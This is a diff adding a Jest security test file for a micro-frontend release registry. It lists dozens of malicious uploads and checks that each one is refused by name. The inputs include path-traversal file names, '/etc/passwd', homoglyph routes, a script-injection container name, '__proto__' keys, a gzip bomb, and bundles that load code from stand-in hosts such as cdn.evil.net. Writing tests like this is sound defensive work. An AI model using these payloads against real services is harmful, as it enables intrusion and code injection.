@@ -1,0 +1,335 @@
+import { readdir, readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { brotliCompressSync, gzipSync } from 'node:zlib';
+import { afterAll, beforeAll, expect, test } from '@jest/globals';
+import type { Release, RemoteRoute } from '@plumbline/contract/releases/releases';
+import { aRelease, aShell, aTeam, formOf, type TestRelease, type TestTeam } from '../../testing/a-release.ts';
+import { openApp, type OpenApp } from '../../testing/open-app.ts';
+import { releaseHash } from './release-hash.ts';
+
+// What a team that means harm sends to the registry. Each attack is refused by name; nothing of it is kept, run or written
+// outside, no other team's release changes, and others are answered meanwhile.
+
+/** What is sent, and how it is answered: the status, and a part of the answer. */
+type Attack = readonly [name: string, send: () => Promise<Answer>, status: number, says: RegExp];
+
+interface Answer {
+  readonly status: number;
+  readonly body: unknown;
+}
+
+let app: OpenApp;
+let team: TestTeam;
+let other: TestTeam;
+let reader: TestTeam;
+let sentinel: string;
+let before: string[];
+
+beforeAll(async () => {
+  app = await openApp({ shell: aShell, settings: { RELEASE_UPLOADS_PER_HOUR: '10000' } });
+  team = await aTeam(app, 'mf-events');
+  reader = await aTeam(app, 'mf-reader', { sections: [] });
+  other = await aTeam(app);
+  const blog = aRelease();
+  expect((await other.publish(blog)).status).toBe(200);
+  expect((await other.post('/releases/mf-blog/promote', { release: blog.release.hash })).status).toBe(200);
+  sentinel = join(app.releases.folder, 'sentinel');
+  await writeFile(sentinel, 'as it was');
+  before = await files();
+});
+afterAll(async () => {
+  await app[Symbol.asyncDispose]();
+});
+
+const files = async (): Promise<string[]> =>
+  (await readdir(app.releases.folder, { recursive: true })).filter((name) => name !== 'mf-events').toSorted();
+const mine = (wanted: Parameters<typeof aRelease>[0] = {}): TestRelease => aRelease({ remote: 'mf-events', ...wanted });
+const publish = (wanted: Parameters<typeof aRelease>[0], sent?: TestRelease['files']) =>
+  team.publish(mine(wanted), sent);
+
+/** A description that the hash is right for, whatever it says. */
+function described(change: (release: Record<string, unknown>) => object): Promise<Answer> {
+  const { release, files: own } = mine();
+  const changed = { ...release, ...change(structuredClone(release) as unknown as Record<string, unknown>) };
+  let { hash } = changed;
+  try {
+    hash = releaseHash(changed as Release);
+  } catch {
+    // It is no release at all.
+  }
+  return team.publish({ release: { ...changed, hash } as Release, files: own });
+}
+const routed = (route: Partial<RemoteRoute> | object) => publish({ routes: [route as Partial<RemoteRoute>] });
+const named = (path: string) => publish({ files: { [path]: 'x' } });
+const raw = (body: BodyInit, headers: Record<string, string> = {}) =>
+  fetch(`${app.origin}/api/releases`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${team.token}`, ...headers },
+    body,
+  }).then(async (answer) => ({ status: answer.status, body: await answer.text() }));
+const multipart = (parts: string) => raw(`${parts}--b--\r\n`, { 'content-type': 'multipart/form-data; boundary=b' });
+const part = (name: string, text: string) => `--b\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`;
+const declared = (change: object) =>
+  described(({ declaration }) => ({ declaration: { ...(declaration as object), ...change } }));
+const contained = (change: object) =>
+  described(({ container }) => ({ container: { ...(container as object), ...change } }));
+
+const route = /description\.declaration\.routes\.0\.path/;
+const notGranted = /not granted to mf-events/;
+const badPath = /must be a path of plain names/;
+
+const attacks: readonly Attack[] = [
+  // Addresses of others.
+  ['an optional segment behind another section', () => routed({ path: '/blog?/evil' }), 400, route],
+  ['another section in capitals', () => routed({ path: '/Blog/evil' }), 400, route],
+  ['two slashes', () => routed({ path: '//blog/evil' }), 400, route],
+  ['an encoded letter', () => routed({ path: '/bl%6fg' }), 400, route],
+  ['a letter that looks like another', () => routed({ path: '/bl\u043eg' }), 400, route],
+  ['a parameter for every section', () => routed({ path: '/:any' }), 400, route],
+  ['an address for everything', () => routed({ path: '/*' }), 400, route],
+  ['dots that climb', () => routed({ path: '/events/../checkout' }), 400, route],
+  ['the API', () => routed({ path: '/api/docs' }), 400, route],
+  ['the files of releases', () => routed({ path: '/releases/mf-blog' }), 400, route],
+  ['the own addresses of the site', () => routed({ path: '/_site/snapshot' }), 400, route],
+  ['a path that doubles 25 times', () => routed({ path: `/events${'/:a?'.repeat(25)}` }), 400, route],
+  ['a path of a megabyte', () => routed({ path: `/events/${'a'.repeat(400_000)}` }), 400, route],
+  [
+    'a thousand routes',
+    () => publish({ routes: Array.from({ length: 1_000 }, (_, at) => ({ path: `/events/${at}` })) }),
+    400,
+    /routes/,
+  ],
+  ['the checkout', () => routed({ path: '/checkout/:plan' }), 422, notGranted],
+  ['the terms', () => routed({ path: '/terms' }), 422, notGranted],
+  ['the home page', () => routed({ path: '/' }), 422, notGranted],
+  ['a page of the blog', () => routed({ path: '/blog/evil' }), 422, notGranted],
+  ['a sign-in page of its own', () => routed({ path: '/login' }), 422, notGranted],
+  ['an admin page', () => routed({ path: '/admin/orders', admin: true, render: 'browser' }), 422, notGranted],
+  ['an admin page that says it is none', () => routed({ path: '/admin/orders' }), 422, notGranted],
+  ['the payment policy', () => routed({ policy: 'payments' }), 422, notGranted],
+  ['5 MB of scripts', () => declared({ budget: 5_000 }), 422, notGranted],
+  ['more than any budget', () => declared({ budget: 1e9 }), 400, /declaration\.budget/],
+  ["an example on another's page", () => routed({ example: 'https://elsewhere.example/' }), 400, /example/],
+  // Another remote's name.
+  ["another remote's token", () => reader.publish(mine()), 403, /for mf-reader, not for mf-events/],
+  ["another remote's name in the declaration", () => declared({ name: 'mf-blog' }), 422, /declaration\.name/],
+  ['a remote whose name climbs', () => described(() => ({ remote: '../mf-blog' })), 400, /description\.remote/],
+  [
+    'a hash that climbs',
+    () => team.publish(mine({ change: { hash: '../../../mf-blog/aaa' } })),
+    400,
+    /description\.hash/,
+  ],
+  [
+    'the hash of something else',
+    () => team.publish(mine({ change: { hash: '0'.repeat(20) } })),
+    422,
+    /is not the hash/,
+  ],
+  ["a container with the blog's global", () => contained({ name: 'mf_blog' }), 422, /container\.name/],
+  ['a container named as a part of the page', () => contained({ name: 'document' }), 422, /container\.name/],
+  [
+    'a container whose name is a script',
+    () => contained({ name: '</script><script>alert(1)//' }),
+    400,
+    /container\.name/,
+  ],
+  [
+    "an entry in another's release",
+    () => contained({ entry: '../../../mf-blog/x.js' }),
+    422,
+    /is no file of the release/,
+  ],
+  [
+    'an entry elsewhere',
+    () => contained({ entry: 'https://elsewhere.example/x.js' }),
+    422,
+    /is no file of the release/,
+  ],
+  // Files.
+  ['a file that climbs', () => named('browser/../../../registry-key'), 422, badPath],
+  ['an absolute file', () => named('/etc/passwd'), 422, badPath],
+  ['a file of Windows', () => named('browser\\..\\..\\key'), 422, badPath],
+  ['a file with a zero byte', () => named('browser/a\u0000.js'), 422, badPath],
+  ['a hidden file', () => named('browser/.htaccess'), 422, badPath],
+  ['a file beside the folders', () => named('release.json'), 422, badPath],
+  ['a name of a thousand letters', () => named(`browser/${'a'.repeat(1_000)}`), 422, badPath],
+  [
+    'a file that is not described',
+    () => publish({}, { ...mine().files, 'server/more.cjs': 'evil()' }),
+    422,
+    /is not described/,
+  ],
+  [
+    'a file in place of another',
+    () => publish({}, { ...mine().files, 'server/remote.cjs': 'evil.server()' }),
+    422,
+    /has \d+ bytes/,
+  ],
+  [
+    'a file with the length of another',
+    () => publish({}, { ...mine().files, 'browser/remoteEntry.js': '// mf-evenTs' }),
+    422,
+    /does not have the hash/,
+  ],
+  [
+    'other content when it is unpacked',
+    () => publish({}, { ...mine().files, 'browser/remoteEntry.js.br': brotliCompressSync('evil()') }),
+    422,
+    /is no compressed form/,
+  ],
+  [
+    'ten megabytes in ten kilobytes',
+    () => publish({}, { ...mine().files, 'browser/remoteEntry.js.gz': gzipSync(Buffer.alloc(10_000_000)) }),
+    422,
+    /is no compressed form/,
+  ],
+  [
+    'a server bundle among the public files',
+    () => described(() => ({ server: 'browser/remoteEntry.js' })),
+    422,
+    /no file of the release below server/,
+  ],
+  [
+    'a server bundle elsewhere',
+    () => described(() => ({ server: 'server/../../../x.cjs' })),
+    422,
+    /no file of the release below server/,
+  ],
+  [
+    'scripts of others as its own',
+    () => described(() => ({ assets: { list: ['../../../mf-blog/x.js'] } })),
+    422,
+    /no files of the release/,
+  ],
+  ["a page named as an object's insides", () => routed({ page: '__proto__' }), 400, /page/],
+  [
+    'described files of an object’s insides',
+    () =>
+      team.publish({
+        ...mine(),
+        release: JSON.parse(JSON.stringify(mine().release).replace('"server/remote.cjs"', '"__proto__"')) as Release,
+      }),
+    422,
+    /refused|is missing|hash/,
+  ],
+  // Code of others, and shared code.
+  [
+    'a script from elsewhere',
+    () => publish({ files: { 'browser/remoteEntry.js': 'import("https://cdn.evil.net/x.js")' } }),
+    422,
+    /loads from https:\/\/cdn\.evil\.net/,
+  ],
+  [
+    'a socket elsewhere',
+    () => publish({ files: { 'browser/remoteEntry.js': 'new WebSocket("wss://evil.net/x")' } }),
+    422,
+    /loads from wss:\/\/evil\.net/,
+  ],
+  ['a React of its own', () => described(() => ({ shared: {} })), 422, /shared\.react/],
+  [
+    'a range that is a program',
+    () => described(() => ({ shared: { react: `^19.0.0 ${'||'.repeat(50_000)}` } })),
+    422,
+    /shared\.react/,
+  ],
+  // Bodies that cost.
+  ['no form', () => raw('{}', { 'content-type': 'application/json' }), 415, /multipart/],
+  [
+    'half a form',
+    () => raw('--b\r\ncontent-disposition: form-', { 'content-type': 'multipart/form-data; boundary=b' }),
+    400,
+    /multipart/,
+  ],
+  ['a hundred thousand fields', () => multipart(part('x', 'y').repeat(100_000)), 400, /must be sent as a file/],
+  [
+    'the same file twice',
+    () =>
+      multipart(
+        part('description', '{}') +
+          `--b\r\ncontent-disposition: form-data; name="a"; filename="a"\r\n\r\nx\r\n`.repeat(2),
+      ),
+    400,
+    /must be sent once/,
+  ],
+  [
+    'two thousand files',
+    () => publish({}, Object.fromEntries(Array.from({ length: 2_000 }, (_, at) => [`browser/${at}.js`, 'x']))),
+    413,
+    /at most 1000 files/,
+  ],
+  ['33 MB', () => raw(formOf('{}', { 'browser/a.js': Buffer.alloc(33 * 1024 * 1024) })), 413, /at most 32 MB/],
+  [
+    'a description of a megabyte',
+    () => raw(formOf(`{"a":"${'x'.repeat(1024 * 1024)}"}`, {})),
+    413,
+    /release\.json may have/,
+  ],
+  ['a description ten thousand levels deep', () => raw(formOf('['.repeat(200_000), {})), 400, /not valid JSON/],
+  [
+    'two megabytes of addresses',
+    () => publish({ files: { 'browser/remoteEntry.js': '//a.b/x'.repeat(300_000) } }),
+    422,
+    /budget/,
+  ],
+  // Moves.
+  [
+    "another remote's promotion",
+    () => team.post('/releases/mf-blog/promote', { release: '0'.repeat(20) }),
+    403,
+    /for mf-events, not for mf-blog/,
+  ],
+  [
+    "another remote's rollback",
+    () => team.post('/releases/mf-blog/rollback', {}),
+    403,
+    /for mf-events, not for mf-blog/,
+  ],
+  [
+    "another remote's canary",
+    () => team.post('/releases/mf-blog/canary', { percent: 100 }),
+    403,
+    /for mf-events, not for mf-blog/,
+  ],
+  [
+    'a promotion of what nobody published',
+    () => team.post('/releases/mf-events/promote', { release: 'a'.repeat(20) }),
+    404,
+    /There is no release/,
+  ],
+  [
+    'a grant for itself',
+    () => team.post('/releases/mf-events/transfer', { section: '/blog', to: 'mf-events' }),
+    401,
+    /unauthorized/,
+  ],
+  ["another remote's end", () => team.post('/releases/mf-blog/retire', {}), 401, /unauthorized/],
+  ["another remote's list", () => team.get('/releases/mf-blog'), 403, /for mf-events, not for mf-blog/],
+];
+
+test.each(attacks)('%s', async (_, send, status, says) => {
+  let slowest = 0;
+  let waiting = true;
+  const others = (async () => {
+    while (waiting) {
+      const began = performance.now();
+      const answer = await fetch(`${app.origin}/api/registry`);
+      expect(JSON.parse(((await answer.json()) as { registry: string }).registry)).toMatchObject({
+        remotes: [{ name: 'mf-blog' }],
+      });
+      slowest = Math.max(slowest, performance.now() - began);
+    }
+  })();
+  const answer = await send();
+  waiting = false;
+  await others;
+  expect([answer.status, JSON.stringify(answer.body)]).toEqual([status, expect.stringMatching(says)]);
+  expect(slowest).toBeLessThan(2_000);
+  expect(await files()).toEqual(before);
+  expect(await readFile(sentinel, 'utf8')).toBe('as it was');
+  expect(await app.db.knex('releases').where({ remote: 'mf-events' })).toEqual([]);
+});
+
+test('there are at least forty of them', () => {
+  expect(attacks.length).toBeGreaterThanOrEqual(40);
+});
